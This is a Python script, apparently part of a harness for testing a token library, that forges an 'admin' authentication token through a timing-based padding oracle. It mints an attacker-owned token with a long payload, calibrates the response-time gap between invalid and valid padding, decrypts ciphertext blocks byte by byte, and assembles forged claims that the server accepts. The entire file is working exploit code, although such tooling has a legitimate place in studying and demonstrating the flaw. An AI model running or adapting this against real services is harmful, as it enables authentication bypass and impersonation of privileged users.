#!/usr/bin/env python3
"""Forges a token for `admin` by timing: is an invalid padding refused sooner than a valid one?

The attacker has one token of his own with a long payload. After its blocks, which are valid UTF-8,
he appends two blocks of his choice. A verifier that checks the padding first, and validates the
UTF-8 only if the padding is valid, then takes longer. That is a padding oracle: it reveals what any
block decrypts to, byte by byte (Vaudenay), and so allows making any token (Rizzo and Duong).
"""
import base64
import secrets
import statistics
import time

from common import APP_ID, Envelope, Server, arguments, main, report, xor

PAYLOAD = "\u5bc6" * 20000  # three bytes each
LAST = 64  # bytes that are sent when the clock starts
CHECKS = 6  # a wrong guess is very unlikely to be slow this often
CALIBRATION = 200


class Oracle:
    """Measures whether two blocks after a long valid string end with a valid padding."""

    def __init__(self, server: Server, deadline: float):
        self.server, self.deadline, self.tried = server, deadline, 0
        own = Envelope.of(server.mint("mallory", PAYLOAD))
        blocks = own.blocks()
        self.known = blocks[-2], blocks[-1]  # with a valid padding, as the library wrote them
        before = Envelope(own.expire, own.iv, own.ciphertext[:-16] + bytes(32))
        raw = before.bytes()[:-32]
        cut = len(raw) // 3 * 3
        self.head, self.rest = b"04" + base64.b64encode(raw[:cut]), raw[cut:]

    def time(self, first: bytes, second: bytes) -> int:
        if time.monotonic() > self.deadline:
            raise TimeoutError
        self.tried += 1
        token = self.head + base64.b64encode(self.rest + first + second)
        return self.server.ask("/verify", token, last=LAST)[2]

    def calibrate(self) -> str:
        first, second = self.known
        self.wrong = first[:15] + bytes([first[15] ^ 0x40])
        good, bad = [], []
        for _ in range(CALIBRATION):
            good.append(self.time(first, second))
            bad.append(self.time(self.wrong, second))
        low, high = statistics.median(bad), statistics.median(good)
        self.threshold = (low + high) / 2
        return f"padding wrong {low / 1000:.1f} us, right {high / 1000:.1f} us"

    def right(self, first: bytes, second: bytes) -> bool:
        checks = 0
        while checks < CHECKS:
            if self.time(first, second) <= self.threshold:
                return False
            # On a busy machine an invalid padding is slow too: then the times show nothing.
            checks += self.time(self.wrong, self.known[1]) <= self.threshold
        return True

    def decrypt(self, block: bytes) -> bytes:
        """The block as AES decrypts it, before anything is XORed to it."""
        while True:
            found = bytearray(16)
            for position in range(15, -1, -1):
                found[position] = self.byte(block, found, position)
            # The whole block must form the longest padding; otherwise a byte is wrong.
            if self.right(xor(bytes(found), bytes([16]) * 16), block):
                return bytes(found)

    def byte(self, block: bytes, found: bytearray, position: int) -> int:
        padding = 16 - position
        for _ in range(3):
            first = bytearray(secrets.token_bytes(16))
            for later in range(position + 1, 16):
                first[later] = found[later] ^ padding
            for guess in range(256):
                first[position] = guess
                if not self.right(bytes(first), block):
                    continue
                if position > 0:
                    # It must not be a longer padding by chance: the byte before must not matter.
                    first[position - 1] ^= 0xFF
                    if not self.right(bytes(first), block):
                        first[position - 1] ^= 0xFF
                        continue
                return guess ^ padding
        return 0  # a later byte is wrong: decrypt() starts again


def forge(oracle: Oracle, plain: bytes, expire: int) -> str:
    padding = 16 - len(plain) % 16
    plain += bytes([padding]) * padding
    blocks = [secrets.token_bytes(16)]
    for at in range(len(plain) - 16, -1, -16):
        blocks.insert(0, xor(oracle.decrypt(blocks[0]), plain[at : at + 16]))
    return Envelope(expire, blocks[0], b"".join(blocks[1:])).token()


def attack(options) -> int:
    with Server(options.server) as server:
        server.check()
        oracle = Oracle(server, time.monotonic() + options.seconds)
        accepted, how = 0, oracle.calibrate()
        expire = int(time.time()) + 3600
        claims = f'{{"app_id":{APP_ID},"user_id":"admin","nonce":1,"ctime":1,"expire":{expire}}}'
        try:
            while not accepted:
                forged = forge(oracle, claims.encode(), expire)
                accepted = int(server.accepts(forged, user="admin"))
        except TimeoutError:
            how += f", given up after {options.seconds:g} s"
        return report("padding oracle", oracle.tried, server.requests, accepted, f" ({how})")


if __name__ == "__main__":
    parser = arguments(__doc__)
    parser.add_argument("--seconds", type=float, default=10, help="give up after this time")
    main(attack, parser.parse_args())
